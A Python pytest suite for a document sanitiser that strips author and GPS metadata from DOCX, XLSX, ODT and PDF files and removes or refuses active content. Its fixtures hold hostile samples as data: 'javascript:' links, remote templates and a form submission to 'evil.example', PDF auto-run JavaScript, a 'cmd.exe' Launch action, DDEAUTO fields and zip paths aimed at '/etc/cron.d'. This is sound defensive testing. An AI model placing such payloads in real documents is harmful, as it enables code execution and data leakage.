"""Documents reach readers with every word, and without their author, programs, and places inside photos."""

from __future__ import annotations

import io
import json
import subprocess
import zipfile
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Stream

from fundapp.file_checks.results import Checked, Refusal
from fundapp.file_checks.sniff import DOCX, ODT, XLSX
from tests.file_checks.checking import Judge, outcome_of
from tests.file_checks.makers import BODY, CORE, RELS, TYPES, docx, odt, pdf, photo, red_corner, xlsx, zipped

MADE = {"docx": (docx, DOCX), "xlsx": (xlsx, XLSX), "odt": (odt, ODT), "pdf": (pdf, "application/pdf")}


def everything_in(content: bytes) -> bytes:
    """Also what is packed inside."""
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return content + b"".join(archive.read(name) for name in archive.namelist())
    unpacked = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(unpacked, qdf=True, stream_decode_level=pikepdf.StreamDecodeLevel.all)
        pictures = b"".join(each.read_raw_bytes() for each in document.objects if isinstance(each, Stream))
    return content + unpacked.getvalue() + pictures


@pytest.mark.parametrize("kind", MADE)
def test_document_keeps_its_words_and_loses_author_and_places(judge: Judge, kind: str):
    make, media_type = MADE[kind]
    sent = everything_in(make())

    outcome = judge(make())

    inside = everything_in(outcome.content)
    assert (b"CANARY-AUTHOR" in sent, b"CANARY-GPS" in sent, b"Kept text" in sent) == (True, True, True)
    assert (b"CANARY" in inside, b"Exif" in inside, b"Kept text" in inside) == (False, False, True)
    assert outcome.result == Checked("document", media_type)


@pytest.mark.program("exiftool")
def test_exiftool_finds_nobody_in_clean_documents(tmp_path: Path):
    for kind, (make, _media_type) in MADE.items():
        (tmp_path / f"clean.{kind}").write_bytes(outcome_of(tmp_path, make()).content)
    with zipfile.ZipFile(tmp_path / "clean.docx") as archive:
        archive.extract("word/media/image1.jpeg", tmp_path)

    files = [*map(str, tmp_path.glob("clean.*")), str(tmp_path / "word/media/image1.jpeg")]
    said = json.loads(subprocess.run(["exiftool", "-j", "-G1", "-a", *files], capture_output=True).stdout)

    groups = {tag.split(":")[0] for each in said for tag in each if ":" in tag}
    assert len(said) == 5
    assert groups <= {"ExifTool", "System", "File", "ZIP", "PDF", "JFIF", "Composite", "XML"}
    assert [tag for each in said for tag in each if "Author" in tag or "Creator" in tag] == []


@pytest.mark.program("pdftotext")
def test_other_programs_open_the_new_pdf(tmp_path: Path):
    document = pikepdf.new()
    document.add_blank_page()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    document.pages[0].obj.Resources = Dictionary(Font=Dictionary(F1=font))
    document.pages[0].Contents = Stream(document, b"BT /F1 12 Tf 50 50 Td (Kept text) Tj ET")
    made = io.BytesIO()
    document.save(made)

    (tmp_path / "new.pdf").write_bytes(outcome_of(tmp_path, made.getvalue()).content)
    said = subprocess.run(["pdftotext", str(tmp_path / "new.pdf"), "-"], capture_output=True, check=True)

    assert b"Kept text" in said.stdout


def test_clean_word_document_still_opens(judge: Judge):
    import docx as python_docx

    document, made = python_docx.Document(), io.BytesIO()
    document.add_paragraph("Kept text")
    made_photo = io.BytesIO()
    red_corner().save(made_photo, "PNG")
    document.add_picture(made_photo)
    document.core_properties.author = "CANARY-AUTHOR"
    document.save(made)

    again = python_docx.Document(io.BytesIO(judge(made.getvalue()).content))

    assert next(each.text for each in again.paragraphs) == "Kept text"
    assert (len(again.inline_shapes), again.core_properties.author) == (1, "")


@pytest.mark.parametrize("kind", ["png", "tiff", "webp"])
def test_photo_of_other_kinds_in_a_document_tells_no_place(judge: Judge, kind: str):
    outcome = judge(docx({f"word/media/image2.{kind}": photo(kind, orientation=1)}))

    assert outcome.refused is None
    assert b"CANARY" not in everything_in(outcome.content)


def test_table_inside_a_text_document_is_cleaned_too(judge: Judge):
    outcome = judge(docx({"word/embeddings/table.xlsx": xlsx()}))

    with zipfile.ZipFile(io.BytesIO(outcome.content)) as archive:
        assert b"CANARY" not in everything_in(archive.read("word/embeddings/table.xlsx"))


def test_what_is_fetched_by_itself_is_cut_off_and_links_stay(judge: Judge):
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
        for number, (kind, target) in enumerate(
            [
                ("hyperlink", "https://example.org/kept"),
                ("hyperlink", "javascript:alert(1)"),
                ("image", "https://evil.example/pixel"),
                ("attachedTemplate", "//evil.example/a.dotm"),
            ]
        )
    )

    outcome = judge(docx({"word/_rels/document.xml.rels": RELS.format(inside=inside)}))

    with zipfile.ZipFile(io.BytesIO(outcome.content)) as archive:
        relations = archive.read("word/_rels/document.xml.rels")
    assert b"https://example.org/kept" in relations
    assert (b"evil" in relations, b"javascript" in relations) == (False, False)


PROGRAM = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
HARMFUL_ROOTS = {
    "opens by itself": {"OpenAction": PROGRAM},
    "starts a program": {"OpenAction": Dictionary(S=Name.Launch, F="cmd.exe")},
    "on closing": {"AA": Dictionary(WC=PROGRAM)},
    "named script": {"Names": Dictionary(JavaScript=Dictionary(Names=Array(["a", PROGRAM])))},
    "attached file": {
        "Names": Dictionary(EmbeddedFiles=Dictionary(Names=Array(["EvilMark", Dictionary(EF=1)])))
    },
    "form with scripts": {"AcroForm": Dictionary(Fields=Array([]), XFA="<script>")},
}


@pytest.mark.parametrize("roots", HARMFUL_ROOTS.values(), ids=HARMFUL_ROOTS.keys())
def test_pdf_does_nothing_by_itself(judge: Judge, roots: dict[str, pikepdf.Object]):
    outcome = judge(pdf(**roots))

    inside = everything_in(outcome.content)
    found = [
        mark for mark in (b"JavaScript", b"/JS", b"Launch", b"cmd.exe", b"EvilMark", b"XFA") if mark in inside
    ]
    assert (outcome.refused, found) == (None, [])


@pytest.mark.parametrize(
    ("action", "stays"),
    [
        (Dictionary(S=Name.URI, URI="https://example.org/kept"), True),
        (Dictionary(S=Name.URI, URI="javascript:alert(1)"), False),
        (Dictionary(S=Name.SubmitForm, F="https://evil.example"), False),
        (Dictionary(S=Name.GoToR, F="evil.pdf"), False),
        (Dictionary(S=Name.GoTo, D=Name.x, Next=Dictionary(S=Name.Launch)), False),
    ],
)
def test_link_in_a_pdf_stays_only_when_it_is_an_ordinary_one(judge: Judge, action: Dictionary, stays: bool):
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.pages[0].obj.Annots.append(
            Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
        )
        made = io.BytesIO()
        document.save(made)

    with pikepdf.open(io.BytesIO(judge(made.getvalue()).content)) as clean:
        assert ("/A" in clean.pages[0].obj.Annots[1]) is stays


def test_file_attached_to_a_page_is_gone(judge: Judge):
    with pikepdf.open(io.BytesIO(pdf())) as document:
        attached = Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=[0, 0, 9, 9],
            FS=Dictionary(F="EvilMark", EF=Dictionary(F=Stream(document, b"MZ EvilMark"))),
        )
        document.pages[0].obj.Annots.append(attached)
        made = io.BytesIO()
        document.save(made)

    assert b"EvilMark" not in everything_in(judge(made.getvalue()).content)


ENCRYPTED_ODT = {"META-INF/manifest.xml": "<m><manifest:encryption-data/></m>"}
REFUSED = {
    "pdf with a password": (pdf(password="secret"), Refusal.ENCRYPTED),
    "odt with a password": (odt(ENCRYPTED_ODT), Refusal.ENCRYPTED),
    "docm": (docx(kind="ms-word.document.macroEnabled"), Refusal.MACROS),
    "docm by type": (
        docx({"[Content_Types].xml": TYPES.format(kind="x") + "<!--macroEnabled-->"}),
        Refusal.MACROS,
    ),
    "docx with macros": (docx({"word/vbaProject.bin": b"x"}), Refusal.MACROS),
    "docx with an object": (docx({"word/embeddings/oleObject1.bin": b"x"}), Refusal.MACROS),
    "docx with activex": (docx({"word/activeX/activeX1.xml": "<x/>"}), Refusal.MACROS),
    "docx with a program": (docx({"word/media/a.bin": b"MZ\x90\0"}), Refusal.MACROS),
    "docx with commands": (
        docx(
            {
                "word/document.xml": BODY.replace(
                    "<w:t>Kept", "<w:instrText> DDEAUTO c:\\x</w:instrText><w:t>K"
                )
            }
        ),
        Refusal.MACROS,
    ),
    "docx with a script": (docx({"word/media/a.svg": "<svg><script>x()</script></svg>"}), Refusal.MACROS),
    "docx with a film": (docx({"word/media/a.mp4": b"\0\0\0\x18ftypmp42"}), Refusal.UNKNOWN),
    "xlsx with links": (xlsx({"xl/externalLinks/externalLink1.xml": "<x/>"}), Refusal.MACROS),
    "odt with scripts": (odt({"Basic/Standard/a.xml": "<x/>"}), Refusal.MACROS),
    "presentation": (docx(kind="presentationml.presentation"), Refusal.UNKNOWN),
    "plain zip": (zipped({"a.txt": "x"}), Refusal.UNKNOWN),
    "broken xml": (docx({"word/document.xml": "<a><b></a>"}), Refusal.BROKEN),
    "other letters": (
        docx({"word/a.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")}),
        Refusal.BROKEN,
    ),
    "path upwards": (docx({"../../etc/cron.d/x": "x"}), Refusal.BROKEN),
    "absolute path": (docx({"/etc/cron.d/x": "x"}), Refusal.BROKEN),
    "same name twice": (docx({"WORD/document.xml": BODY}), Refusal.BROKEN),
    "half a pdf": (pdf()[:400], Refusal.BROKEN),
    "no pdf": (b"%PDF-1.7\n<script>alert(1)</script>", Refusal.BROKEN),
    "pdf whose photo is none": (pdf(inside=b"<html>"), Refusal.BROKEN),
    "half a docx": (docx()[:300], Refusal.BROKEN),
    "damaged photo": (docx({"word/media/b.png": photo("png")[:80]}), Refusal.BROKEN),
}


@pytest.mark.parametrize(("content", "reason"), REFUSED.values(), ids=REFUSED.keys())
def test_document_is_refused_with_its_reason(judge: Judge, content: bytes, reason: Refusal):
    assert judge(content).refused is reason


def test_author_of_core_part_is_in_no_other_case(judge: Judge):
    """A file that hides it under another name is still without its author."""
    outcome = judge(docx({"docProps/core2.xml": CORE}))

    assert b"CANARY-AUTHOR" not in everything_in(outcome.content)
